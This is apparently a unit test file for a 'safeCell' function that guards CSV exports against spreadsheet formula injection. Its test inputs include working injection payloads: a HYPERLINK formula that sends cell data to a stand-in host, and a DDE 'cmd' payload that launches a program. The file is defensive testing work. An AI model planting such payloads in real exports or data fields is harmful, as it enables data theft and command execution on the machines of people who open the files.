import { safeCell } from './csv-cells';

describe('safeCell (formula injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.test/?"&A1,"click")', `'=HYPERLINK("http://x.test/?"&A1,"click")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['Jane Doe', 'Jane Doe'],
    ['+12065550101', '+12065550101'],
    ['+1 206 555 0101', `'+1 206 555 0101`],
  ])('%j -> %j', (input, out) => expect(safeCell(input)).toBe(out));

  it('writes nothing for missing values and ISO for dates', () => {
    expect(safeCell(null)).toBe('');
    expect(safeCell(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z');
  });
});
